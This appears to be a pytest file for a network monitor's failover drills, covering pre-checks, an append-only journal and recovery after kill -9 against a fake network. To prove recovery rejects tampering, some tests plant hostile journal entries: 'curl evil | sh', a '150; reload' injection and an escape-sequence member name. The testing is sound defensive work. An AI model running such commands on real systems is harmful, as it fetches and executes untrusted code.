"""Drill pre-checks, the journal, and recovery after kill -9: pure logic and SQLite, with a fake
network in place of devices."""

from __future__ import annotations

import asyncio
import json
import sqlite3
import time
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import cast

import pytest
from typer.testing import CliRunner

from netmon.cli import app
from netmon.collectors.snmp import SnmpCollector
from netmon.collectors.ssh import SshCollector
from netmon.drills.actuators import ACTUATORS, NoParams, PriorityParams, SshParams, actuator
from netmon.drills.checks import Check, in_freeze, prechecks
from netmon.drills.journal import Journal
from netmon.drills.runner import JOURNAL_QUOTE_MAX, DrillRunner, Report
from netmon.drills.silence import Silences
from netmon.kinds.keepalived import BASE_PRIORITY, KeepalivedParams
from netmon.model import (
    Device,
    DeviceReading,
    DrillSpec,
    Inventory,
    MemberObservation,
    MemberSpec,
    MemberView,
    Mode,
    Oid,
    PairSpec,
    PairState,
    PairStatus,
    Probe,
    Role,
    Value,
)
from netmon.statedb import StateError

T0 = 1_700_000_000.0  # 22:13 UTC


def pair(**drill: object) -> PairSpec:
    spec = DrillSpec("keepalived-priority", PriorityParams(), **drill)  # type: ignore[arg-type]
    members = (
        MemberSpec("r1", "r1", KeepalivedParams(1)),
        MemberSpec("r2", "r2", KeepalivedParams(1)),
    )
    return PairSpec("p", "keepalived", members, preferred="r1", drill=spec)


def status(
    r2: Role = Role.STANDBY, ready: bool = True, state: PairState = PairState.HEALTHY
) -> PairStatus:
    members = (
        MemberObservation("r1", "r1", MemberView(Role.ACTIVE), T0),
        MemberObservation("r2", "r2", MemberView(r2, ready=ready), T0),
    )
    return PairStatus("p", "keepalived", Mode.ACTIVE_STANDBY, state, (), members, ("r1",), T0, T0)


def failed(checks: list) -> list[str]:  # type: ignore[type-arg]
    return [c.name for c in checks if not c.ok]


def test_a_healthy_pair_passes_every_check() -> None:
    checks = prechecks(pair(), status(), None, other_drill=None, last_failover_at=None, now=T0)
    assert failed(checks) == []
    assert {c.name for c in checks} >= {
        "pair healthy",
        "standby ready",
        "no other drill on this pair",
    }


def test_standby_not_ready_or_down_is_refused() -> None:
    down = prechecks(pair(), status(Role.UNREACHABLE, state=PairState.DEGRADED), None,
                     other_drill=None, last_failover_at=None, now=T0)  # fmt: skip
    assert failed(down) == ["pair healthy", "standby ready"]
    # Each refusal says what it saw, naming the member: the operator learns which one to fix.
    seen = {c.name: c.detail for c in down}
    assert seen["standby ready"] == "r2=unreachable"
    assert seen["pair healthy"] == "degraded"
    cold = prechecks(
        pair(),
        status(Role.STANDBY, ready=False),
        None,
        other_drill=None,
        last_failover_at=None,
        now=T0,
    )
    assert failed(cold) == ["standby ready"]
    assert {c.name: c.detail for c in cold}["standby ready"] == "r2=standby"


def test_recent_failover_and_other_drill_are_refused() -> None:
    checks = prechecks(pair(min_since_failover=600), status(), None, other_drill="drill 4 is still running",
                       last_failover_at=T0 - 60, now=T0)  # fmt: skip
    assert failed(checks) == ["no other drill on this pair", "no failover in the last 600s"]


def test_freeze_windows_including_across_midnight() -> None:
    minute = int(T0 // 60) % 1440
    assert in_freeze(((minute - 5, minute + 5),), T0) is not None
    assert in_freeze(((minute + 5, minute + 10),), T0) is None
    assert in_freeze(((22 * 60, 6 * 60),), T0) is not None  # 22:00-06:00 holds 22:13
    checks = prechecks(pair(freeze=((22 * 60, 6 * 60),)), status(), None, other_drill=None,
                       last_failover_at=None, now=T0)  # fmt: skip
    assert failed(checks) == ["outside freeze windows"]


def test_pair_without_drill_block_is_refused() -> None:
    plain = PairSpec("p", "keepalived", pair().members)
    assert "drill configured" in failed(
        prechecks(plain, status(), None, other_drill=None, last_failover_at=None)
    )


def test_units_named_local_and_peer_of_one_agent_are_refused() -> None:
    """`local` follows the agent, which moves with the active unit: after a switchover `local`
    is active again, so a drill could never see the takeover by name (it would abort and switch
    the chassis back). Units named by unit_id, or each on its own device, are fine."""
    from netmon.kinds.cisco_rf import CiscoRfParams
    from netmon.kinds.paloalto import PaloAltoHaParams

    drill = DrillSpec("cisco-rf-switch", PriorityParams())
    shared = PairSpec(
        "p", "cisco-rf",
        (MemberSpec("sup-a", "chassis", CiscoRfParams(unit="local")),
         MemberSpec("sup-b", "chassis", CiscoRfParams(unit="peer"))),
        drill=drill,
    )  # fmt: skip
    checks = prechecks(shared, status(), None, other_drill=None, last_failover_at=None, now=T0)
    assert failed(checks) == ["members keep their names across a takeover"]
    by_id = PairSpec(
        "p", "cisco-rf",
        (MemberSpec("sup-a", "chassis", CiscoRfParams(unit_id=1)),
         MemberSpec("sup-b", "chassis", CiscoRfParams(unit_id=2))),
        drill=drill,
    )  # fmt: skip
    assert (
        failed(prechecks(by_id, status(), None, other_drill=None, last_failover_at=None, now=T0))
        == []
    )
    own = PairSpec(
        "p", "paloalto-ha",
        (MemberSpec("fw-a", "fw-a", PaloAltoHaParams("local")),
         MemberSpec("fw-b", "fw-b", PaloAltoHaParams("local"))),
        drill=drill,
    )  # fmt: skip
    assert (
        failed(prechecks(own, status(), None, other_drill=None, last_failover_at=None, now=T0))
        == []
    )


def test_actuator_table_lists_choices() -> None:
    assert set(ACTUATORS) == {
        "keepalived-priority",
        "vrrp-priority",
        "cisco-rf-switch",
        "ssh-commands",
    }
    with pytest.raises(LookupError, match="choose one of: keepalived-priority"):
        actuator("reboot")
    p = pair()
    demote = actuator("keepalived-priority").demote(PriorityParams(demote_to=5), p, p.members[0])
    assert demote[0].describe() == "r1: SNMP SET 1.3.6.1.4.1.9586.100.5.2.3.1.7.1 = INTEGER 5"


def test_journal_is_append_only_and_finds_interrupted_drills(tmp_path: Path) -> None:
    path = tmp_path / "drills.sqlite"
    journal = Journal(path)
    drill = journal.start("p", "r1", "r2")
    journal.set_restore(
        drill, [{"device": "r1", "oid": [1, 3, 6, 1], "value": 150, "commands": []}]
    )
    seq = journal.step(drill, "act", "r1: SNMP SET ... = 1")
    assert [d.id for d in journal.unfinished()] == [drill]
    journal.mark(drill, seq, "done")
    assert journal.steps(drill)[0][4] == "done"
    db = sqlite3.connect(path)
    with pytest.raises(sqlite3.DatabaseError, match="cannot be edited"):
        db.execute("UPDATE steps SET text = 'nothing happened' WHERE drill_id = ?", (drill,))
    with pytest.raises(sqlite3.DatabaseError, match="cannot be deleted"):
        db.execute("DELETE FROM steps")
    db.close()
    journal.finish(drill, "passed", {"result": "passed"})
    assert journal.unfinished() == []
    assert journal.drill(drill).result == "passed"  # type: ignore[union-attr]
    assert journal.db_mode() == "wal"
    stuck = journal.start("p", "r1", "r2")
    journal.finish(stuck, "needs_attention", {})
    assert journal.blocked("p") is not None
    journal.resolve(stuck, "priority checked by hand")
    assert journal.blocked("p") is None
    assert journal.steps(stuck)[-1][3] == "resolved by hand: priority checked by hand"
    journal.close()


# -- recovery after kill -9: rebuilt from the inventory, never replayed from the journal ------

PRIORITY_OID = (*BASE_PRIORITY, 1)
DEMOTE = ["touch /etc/keepalived/down"]
RESTORE = ["rm -f /etc/keepalived/down"]


class Killed(BaseException):
    """kill -9 at the worst moment: nothing of the runner's own cleanup (abort, restore, finish)
    runs, as none would in a process that is gone."""


class FakeNet:
    """Both collectors of a two-router keepalived pair: r1 is active while its base priority is
    above r2's and its track file is absent. Records every SET and SSH session; with `kill`
    set, the process "dies" right after the demotion reaches the device."""

    def __init__(self) -> None:
        self.priority = {"r1": 150, "r2": 100}
        self.down = False
        self.sets: list[tuple[str, Oid, int]] = []
        self.sessions: list[tuple[str, list[str]]] = []
        self.kill: str | None = None  # "demote": after the demotion; "read": before acting
        # What reading the value to restore gets: None (the priority), "timeout" (no answer),
        # "missing" (an answer without the value), or an INTEGER the device claims.
        self.read: str | int | None = None

    def active(self) -> str:
        return "r1" if self.priority["r1"] > self.priority["r2"] and not self.down else "r2"

    async def poll(self, device: Device, probes: Iterable[Probe]) -> DeviceReading:
        if self.kill == "read":
            raise Killed
        if self.read == "timeout":
            return DeviceReading(device.name, "snmp", T0, ok=False, reason="timeout")
        values: dict[Oid | str, Value] = {p.oid: self.priority[device.name] for p in probes}
        if self.read == "missing":
            values = {}
        elif isinstance(self.read, int):
            values = {p.oid: self.read for p in probes}
        return DeviceReading(device.name, "snmp", T0, ok=True, values=values)

    async def set_integer(self, device: Device, oid: Oid, value: int) -> None:
        self.sets.append((device.name, oid, value))
        self.priority[device.name] = value
        if self.kill == "demote":
            raise Killed

    async def run(self, device: Device, commands: list[str]) -> DeviceReading:
        self.sessions.append((device.name, list(commands)))
        self.down = {tuple(DEMOTE): True, tuple(RESTORE): False}.get(tuple(commands), self.down)
        if self.kill == "demote":
            raise Killed
        return DeviceReading(device.name, "ssh", T0, ok=True)

    def close(self) -> None:
        pass


class FakeRunner(DrillRunner):
    """The real runner; only reading the pair's state comes from the fake network."""

    def __init__(self, pair: PairSpec, journal: Journal, net: FakeNet) -> None:
        devices = {name: Device(name, "192.0.2.1") for name in ("r1", "r2")}
        snmp, ssh = cast("SnmpCollector", net), cast("SshCollector", net)
        super().__init__(Inventory(devices, (pair,)), journal, snmp, ssh, None)
        self.net = net

    async def status(self, pair: PairSpec) -> PairStatus:
        active = self.net.active()
        members = tuple(
            MemberObservation(m, m, MemberView(Role.ACTIVE if m == active else Role.STANDBY), T0)
            for m in ("r1", "r2")
        )
        return PairStatus(pair.name, "keepalived", Mode.ACTIVE_STANDBY, PairState.HEALTHY, (),
                          members, (active,), T0, T0)  # fmt: skip

    async def checks(self, pair: PairSpec) -> tuple[list[Check], PairStatus | None]:
        now = await self.status(pair)
        return prechecks(pair, now, None, other_drill=None, last_failover_at=None), now


def ssh_pair() -> PairSpec:
    drill = DrillSpec("ssh-commands", SshParams(DEMOTE, RESTORE), max_switchover=1.0)
    return replace(pair(), drill=drill)


def killed_drill(path: Path, spec: PairSpec, net: FakeNet, when: str = "demote") -> int:
    """A drill on `spec` whose process dies at `when`; returns its journal id."""
    journal = Journal(path)
    net.kill = when
    with pytest.raises(Killed):
        asyncio.run(FakeRunner(spec, journal, net).run(spec, asyncio.Event()))
    net.kill = None
    (row,) = journal.unfinished()
    journal.close()
    return row.id


def recover(path: Path, spec: PairSpec, net: FakeNet) -> tuple[Journal, list[int]]:
    """The next drill command (or the daemon's start): a new runner on the same journal."""
    journal = Journal(path)
    return journal, asyncio.run(FakeRunner(spec, journal, net).recover())


def edit_restore_actions(path: Path, drill: int, actions: object) -> None:
    """What anyone who can write the journal file can do."""
    db = sqlite3.connect(path)
    with db:
        db.execute(
            "UPDATE drills SET restore_actions = ? WHERE id = ?", (json.dumps(actions), drill)
        )
    db.close()


def notes(journal: Journal, drill: int) -> list[str]:
    return [text for _, _, kind, text, _ in journal.steps(drill) if kind == "note"]


def test_kill_9_after_the_demotion_is_restored_with_the_value_read_before(tmp_path: Path) -> None:
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    assert net.sets == [("r1", PRIORITY_OID, 1)] and net.active() == "r2"

    journal, recovered = recover(path, spec, net)
    assert recovered == [drill]
    assert net.sets[1:] == [("r1", PRIORITY_OID, 150)]
    assert net.active() == "r1"
    row = journal.drill(drill)
    assert row is not None and row.result == "aborted"
    assert row.report is not None and row.report["restored"] is True
    assert row.restore_actions == [  # kept for the audit, as written before acting
        {"device": "r1", "oid": list(PRIORITY_OID), "value": 150, "commands": []}
    ]
    assert not any("differ" in n for n in notes(journal, drill))
    journal.close()


def test_kill_9_before_anything_was_sent_restores_nothing(tmp_path: Path) -> None:
    """Killed while reading the value to restore: no demotion was sent, so nothing is set (and
    no value is needed); the pair is verified on its original member."""
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net, when="read")
    journal, _ = recover(path, spec, net)
    assert net.sets == []
    row = journal.drill(drill)
    assert row is not None and row.result == "aborted"
    assert "no demotion was sent: nothing to restore" in notes(journal, drill)
    journal.close()


def test_an_edited_ssh_restore_runs_the_inventorys_commands_and_says_so(tmp_path: Path) -> None:
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), ssh_pair()
    drill = killed_drill(path, spec, net)
    assert net.sessions == [("r1", DEMOTE)] and net.active() == "r2"
    planted = [{"device": "r2", "oid": None, "value": None, "commands": ["curl evil | sh"]}]
    edit_restore_actions(path, drill, planted)

    journal, _ = recover(path, spec, net)
    assert net.sessions[1:] == [("r1", RESTORE)]  # the inventory's, on the demoted member
    assert net.active() == "r1"
    row = journal.drill(drill)
    assert row is not None and row.result == "aborted"
    (note,) = [n for n in notes(journal, drill) if "differ" in n]
    assert "were not used" in note and "curl evil | sh" in note
    assert "r1: SSH rm -f /etc/keepalived/down" in note
    journal.close()


def test_only_the_original_value_is_taken_from_the_journal(tmp_path: Path) -> None:
    """An SSH command slipped in beside the right SET: the SET is rebuilt from the inventory
    with the journal's value; the planted command never runs."""
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    set_back = {"device": "r1", "oid": list(PRIORITY_OID), "value": 150, "commands": []}
    planted = {"device": "r1", "oid": None, "value": None, "commands": ["reload"]}
    edit_restore_actions(path, drill, [set_back, planted])

    journal, _ = recover(path, spec, net)
    assert net.sets[1:] == [("r1", PRIORITY_OID, 150)]
    assert net.sessions == []
    assert any("were not used" in n for n in notes(journal, drill))
    assert journal.drill(drill).result == "aborted"  # type: ignore[union-attr]
    journal.close()


def assert_not_restored(journal: Journal, drill: int, net: FakeNet, why: str) -> None:
    """Recovery acted on nothing: the demotion is the only SET, no SSH ran, a person decides."""
    assert net.sets == [("r1", PRIORITY_OID, 1)]
    assert net.sessions == []
    row = journal.drill(drill)
    assert row is not None and row.result == "needs_attention"
    assert row.report is not None and why in row.report["reason"]
    assert row.report["restored"] is False and row.report["restore_actions"] == []
    assert journal.blocked("p") is not None  # further drills wait for a person
    assert any(n.startswith("recovery did not act: ") for n in notes(journal, drill))


@pytest.mark.parametrize(
    ("edited", "why"),
    [
        ({"value": "150; reload"}, "is not an INTEGER"),
        ({"value": 150.5}, "is not an INTEGER"),
        ({"value": True}, "is not an INTEGER"),
        ({"value": None}, "is not an INTEGER"),
        ({"value": 1 << 40}, "is not an INTEGER"),
        ({"value": 0}, "not plausible: 0 is not a priority"),  # VRRP: stop participating
        ({"value": -1}, "not plausible: -1 is not a priority"),
        ({"value": 256}, "not plausible: 256 is not a priority"),
        ({"value": 1}, "not plausible: 1 is the drill's demote_to"),  # left on the standby
        ({"oid": [1, 3, 6, 1, 2, 1, 1, 5, 0]}, "holds no value to restore"),
        ({"device": "r2"}, "holds no value to restore"),
    ],
)
def test_an_original_value_not_safely_in_the_journal_sets_nothing(
    tmp_path: Path, edited: dict[str, object], why: str
) -> None:
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    action = {"device": "r1", "oid": list(PRIORITY_OID), "value": 150, "commands": []}
    edit_restore_actions(path, drill, [{**action, **edited}])

    journal, _ = recover(path, spec, net)
    assert_not_restored(journal, drill, net, why)
    journal.close()


@pytest.mark.parametrize("damage", ["{not json", '"a string"', "[1, 2]", "\u00ff\u00fe"])
def test_damaged_journal_json_blocks_no_drill_command(tmp_path: Path, damage: str) -> None:
    """restore_actions that are not a JSON list of objects (edited, or torn by a disk) are no
    value to restore: recovery asks for a person; the journal still reads, other drills go on."""
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    db = sqlite3.connect(path)
    with db:
        db.execute("UPDATE drills SET restore_actions = ? WHERE id = ?", (damage, drill))
    db.close()
    journal, _ = recover(path, spec, net)
    assert_not_restored(journal, drill, net, "holds no value to restore")
    assert [row.id for row in journal.drills()] == [drill]  # the history still lists it
    journal.close()


@pytest.mark.parametrize("second_value", [150, 120])
def test_a_journal_naming_the_device_and_oid_twice_sets_nothing(
    tmp_path: Path, second_value: int
) -> None:
    """Two entries for the one SET: which is the value read before acting cannot be told, even
    when both say the same (the file was edited either way)."""
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    action = {"device": "r1", "oid": list(PRIORITY_OID), "value": 150, "commands": []}
    edit_restore_actions(path, drill, [action, {**action, "value": second_value}])

    journal, _ = recover(path, spec, net)
    assert_not_restored(
        journal, drill, net, f"names {'.'.join(map(str, PRIORITY_OID))} on r1 more than once"
    )
    journal.close()


def test_priority_actuators_say_which_originals_are_plausible() -> None:
    for name in ("keepalived-priority", "vrrp-priority"):
        act = actuator(name)
        params = PriorityParams(demote_to=20)
        assert [
            v for v in (0, 1, 19, 20, 21, 150, 255, 256) if act.original_problem(params, v)
        ] == [0, 20, 256]
        assert act.original_problem(PriorityParams(), 20) is None  # demote_to 1 by default
    # These read nothing before acting: no value from the journal is ever theirs to use.
    assert actuator("ssh-commands").original_problem(SshParams(DEMOTE, RESTORE), 150)
    assert actuator("cisco-rf-switch").original_problem(NoParams(), 150)


def set_active_member(path: Path, drill: int, name: str) -> None:
    db = sqlite3.connect(path)
    with db:
        db.execute("UPDATE drills SET active_member = ? WHERE id = ?", (name, drill))
    db.close()


@pytest.mark.parametrize("how", ["renamed in the inventory", "edited in the journal"])
def test_a_demoted_member_no_longer_in_the_pair_needs_attention(tmp_path: Path, how: str) -> None:
    """The member the journal says was demoted is not one of the pair's members now: nothing
    says which device to restore, so nothing is run (neither on the other member nor anywhere
    else), and the journal's name is not echoed into the report."""
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    planted = "r1\x1b[2J; reload"
    if how == "renamed in the inventory":
        spec = replace(spec, members=(replace(spec.members[0], name="r1-new"), spec.members[1]))
    else:
        set_active_member(path, drill, planted)

    journal, _ = recover(path, spec, net)
    assert_not_restored(
        journal, drill, net, "the member it demoted is no longer in p in the inventory"
    )
    row = journal.drill(drill)
    assert row is not None and row.report is not None
    assert "reload" not in json.dumps(row.report)
    assert not any("reload" in n or "\x1b" in n for n in notes(journal, drill))
    journal.close()


def test_journal_text_quoted_in_a_note_is_bounded(tmp_path: Path) -> None:
    """A 10 KB command planted in the journal is quoted JSON-escaped and cut at
    JOURNAL_QUOTE_MAX characters (docs/drills.md), not copied whole into the note."""
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), ssh_pair()
    drill = killed_drill(path, spec, net)
    planted = [{"device": "r1", "oid": None, "value": None, "commands": ["Z" * 10_240]}]
    edit_restore_actions(path, drill, planted)

    journal, _ = recover(path, spec, net)
    assert net.sessions[1:] == [("r1", RESTORE)]
    (note,) = [n for n in notes(journal, drill) if "differ" in n]
    quoted = json.dumps(planted)[:JOURNAL_QUOTE_MAX]
    assert f"journal {quoted}...; restoring with the inventory's: " in note
    assert note.count("Z") == quoted.count("Z") < JOURNAL_QUOTE_MAX
    assert len(note) < JOURNAL_QUOTE_MAX + 200
    journal.close()


def test_a_pair_gone_from_the_inventory_needs_attention(tmp_path: Path) -> None:
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    journal, _ = recover(path, replace(spec, drill=None), net)
    assert net.sets == [("r1", PRIORITY_OID, 1)]
    assert journal.drill(drill).result == "needs_attention"  # type: ignore[union-attr]
    journal.close()


# -- a drill that stops before its demotion is sent: a clean result, nothing to restore --------


class FakeSilences:
    """Alertmanager: records the silences created and expired."""

    def __init__(self) -> None:
        self.created: list[str] = []
        self.expired: list[str] = []

    def create(self, pair: str, seconds: float, created_by: str, comment: str) -> str:
        self.created.append(pair)
        return f"silence-{len(self.created)}"

    def expire(self, silence_id: str) -> None:
        self.expired.append(silence_id)


def drill_with_silence(
    journal: Journal, net: FakeNet, spec: PairSpec, stop: asyncio.Event | None = None
) -> tuple[Report, FakeSilences]:
    silences = FakeSilences()
    report = asyncio.run(
        FakeRunner(spec, journal, net).run(
            spec, stop or asyncio.Event(), silences=cast("Silences", silences)
        )
    )
    return report, silences


def assert_ended_before_acting(
    journal: Journal, report: Report, net: FakeNet, silences: FakeSilences, why: str
) -> None:
    """Nothing was sent or waited for; the drill is aborted, journalled as such, and finished
    (no recovery left to do, no person needed); the silence is expired."""
    assert net.sets == [] and net.sessions == [] and net.active() == "r1"
    assert report.result == "aborted" and report.restored is False
    assert report.reason is not None and why in report.reason
    assert report.reason.endswith("; nothing was sent")
    assert report.silence_id == "silence-1" and silences.expired == ["silence-1"]
    assert report.id is not None
    row = journal.drill(report.id)
    assert row is not None and row.result == "aborted" and row.finished_at is not None
    assert row.report is not None and row.report["reason"] == report.reason
    assert journal.unfinished() == [] and journal.blocked("p") is None
    steps = [(kind, text, status) for _, _, kind, text, status in journal.steps(report.id)]
    assert ("abort", report.reason, "done") in steps
    assert not any(kind in ("act", "restore") for kind, _, _ in steps)
    assert steps[-1] == ("note", "Alertmanager silence silence-1 expired", "done")


@pytest.mark.parametrize(
    ("read", "why"),
    [
        ("timeout", "cannot read r1 before acting: timeout"),
        ("missing", f"cannot read the value to restore ({'.'.join(map(str, PRIORITY_OID))}) on r1"),
        (0, "is not plausible: 0 is not a priority"),  # recovery would refuse it after a kill -9
        (1, "is not plausible: 1 is the drill's demote_to"),  # demoted already
    ],
)
def test_a_value_to_restore_not_read_before_acting_aborts_the_drill_cleanly(
    tmp_path: Path, read: str | int, why: str
) -> None:
    net, spec = FakeNet(), pair(max_switchover=1.0)
    net.read = read
    journal = Journal(tmp_path / "drills.sqlite")
    report, silences = drill_with_silence(journal, net, spec)
    assert_ended_before_acting(journal, report, net, silences, why)
    assert report.restore_actions == [] and report.actions == []
    # The next drill command finds nothing to recover.
    net.read = None
    assert asyncio.run(FakeRunner(spec, journal, net).recover()) == []
    journal.close()


def test_ctrl_c_before_the_demotion_is_sent_sends_nothing(tmp_path: Path) -> None:
    net, spec = FakeNet(), pair(max_switchover=1.0)
    journal = Journal(tmp_path / "drills.sqlite")
    stop = asyncio.Event()
    stop.set()
    report, silences = drill_with_silence(journal, net, spec, stop)
    assert_ended_before_acting(journal, report, net, silences, "interrupted (Ctrl-C or SIGTERM)")
    journal.close()


def test_a_journal_that_cannot_be_written_before_acting_sends_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The restore actions cannot be put on disk: the drill does not act (a kill -9 after the
    demotion would leave nothing to restore from), and still ends cleanly."""
    net, spec = FakeNet(), pair(max_switchover=1.0)
    journal = Journal(tmp_path / "drills.sqlite")

    def disk_full(*_: object) -> None:
        raise StateError("database or disk is full")

    monkeypatch.setattr(journal, "set_restore", disk_full)
    report, silences = drill_with_silence(journal, net, spec)
    assert_ended_before_acting(
        journal, report, net, silences, "cannot write the drill journal: database or disk is full"
    )
    journal.close()


def test_a_drill_the_journal_cannot_record_is_refused_and_unsilenced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    net, spec = FakeNet(), pair(max_switchover=1.0)
    journal = Journal(tmp_path / "drills.sqlite")

    def locked(*_: object) -> int:
        raise StateError("database is locked")

    monkeypatch.setattr(journal, "start", locked)
    report, silences = drill_with_silence(journal, net, spec)
    assert net.sets == [] and report.id is None
    assert report.result == "refused"
    assert report.reason == "cannot write the drill journal: database is locked; nothing was sent"
    assert silences.expired == ["silence-1"]
    assert journal.drills() == []
    journal.close()


@pytest.mark.parametrize("as_json", [False, True])
def test_drill_run_whose_read_fails_exits_1_with_the_reason_and_no_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, as_json: bool
) -> None:
    net, spec = FakeNet(), pair(max_switchover=1.0)
    net.read = "timeout"
    journal = Journal(tmp_path / "drills.sqlite")
    drill_runner = FakeRunner(spec, journal, net)
    silences = FakeSilences()
    monkeypatch.setattr(
        "netmon.cli.drill._drill_context",
        lambda *_: (drill_runner.inventory, journal, drill_runner),
    )
    monkeypatch.setattr("netmon.drills.silence.Silences", lambda url: silences)
    args = ["drill", "run", "p", "-i", str(tmp_path / "inventory.yaml"), "--yes",
            "--alertmanager", "http://alertmanager.invalid:9093"]  # fmt: skip
    result = CliRunner().invoke(app, [*args, "--json"] if as_json else args)
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)  # typer.Exit(1), not an escaped error
    assert "Traceback" not in result.output and "Traceback" not in result.stderr
    reason = "cannot read r1 before acting: timeout; nothing was sent"
    if as_json:
        data = json.loads(result.stdout)
        assert data["result"] == "aborted" and data["reason"] == reason
        assert data["silence_id"] == "silence-1"
    else:
        assert "aborted" in result.stdout and reason in result.stdout
    assert silences.expired == ["silence-1"]
    check = Journal(tmp_path / "drills.sqlite")  # the CLI closed the runner's
    assert check.unfinished() == [] and check.drills()[0].result == "aborted"
    check.close()


class BothMasters:
    """Two keepalived members that both say MASTER: the moment of a priority switchover when
    the new master has taken over and the old one has not yet heard it. Counts reads."""

    def __init__(self) -> None:
        self.reads = 0

    async def poll(self, device: Device, probes: Iterable[Probe]) -> DeviceReading:
        self.reads += 1
        values: dict[Oid | str, Value] = {p.oid: 2 if p.key == "vrrpInstanceState" else 100
                                          for p in probes}  # fmt: skip
        return DeviceReading(device.name, "snmp", time.time(), ok=True, values=values)

    def close(self) -> None:
        pass


def test_a_drill_watching_a_takeover_does_not_wait_out_the_split_brain_debounce(
    tmp_path: Path,
) -> None:
    """The scheduled poll re-polls once the debounce is over; the drill polls every WATCH_STEP
    with its own dual-active clock, so a settle would add the debounce to the switchover
    measured (CI: 5.96 s measured against 3.97 s by an independent VIP watch)."""
    spec = replace(pair(), split_brain_debounce=0.05)
    net = BothMasters()
    journal = Journal(tmp_path / "drills.sqlite")
    devices = {name: Device(name, "192.0.2.1") for name in ("r1", "r2")}
    snmp, ssh = cast("SnmpCollector", net), cast("SshCollector", net)
    runner = DrillRunner(Inventory(devices, (spec,)), journal, snmp, ssh, None)
    try:
        seen = asyncio.run(runner.status(spec))
        assert net.reads == 2  # one read per member, no second poll
        assert set(seen.active_members) == {"r1", "r2"}
        assert seen.state is not PairState.SPLIT_BRAIN  # not yet: the debounce is the drill's
        settled = asyncio.run(runner.poller.poll_pair("p"))
        assert net.reads == 6  # the scheduled job settles the window with a second poll
        assert settled is not None and settled.state is PairState.SPLIT_BRAIN
    finally:
        journal.close()


def test_recovery_leaves_a_pair_of_another_shard_and_a_pair_whose_drill_is_alive(
    tmp_path: Path,
) -> None:
    """A shard's replica does not recover another shard's pair (to it the pair is not in the
    inventory, which would read as "removed" and ask for a person); a drill whose holder still
    renews its lease is running, not dead, and nobody restores its pair under it."""
    path, net, spec = tmp_path / "drills.sqlite", FakeNet(), pair(max_switchover=1.0)
    drill = killed_drill(path, spec, net)
    journal = Journal(path)
    other_shard = FakeRunner(spec, journal, net)
    other_shard.owns = lambda _: False
    assert asyncio.run(other_shard.recover()) == []
    journal.acquire(spec.name, "replica-x (pid 1 on elsewhere)", drill)  # alive, elsewhere
    assert journal.orphaned() == []
    assert asyncio.run(FakeRunner(spec, journal, net).recover()) == []
    assert net.active() == "r2"  # nothing was restored under the live drill
    journal.release(spec.name, "replica-x (pid 1 on elsewhere)")
    assert asyncio.run(FakeRunner(spec, journal, net).recover()) == [drill]
    assert net.active() == "r1"
    row = journal.drill(drill)
    assert row is not None and row.result == "aborted"
    assert any(n.startswith("recovery by ") for n in notes(journal, drill))
    journal.close()
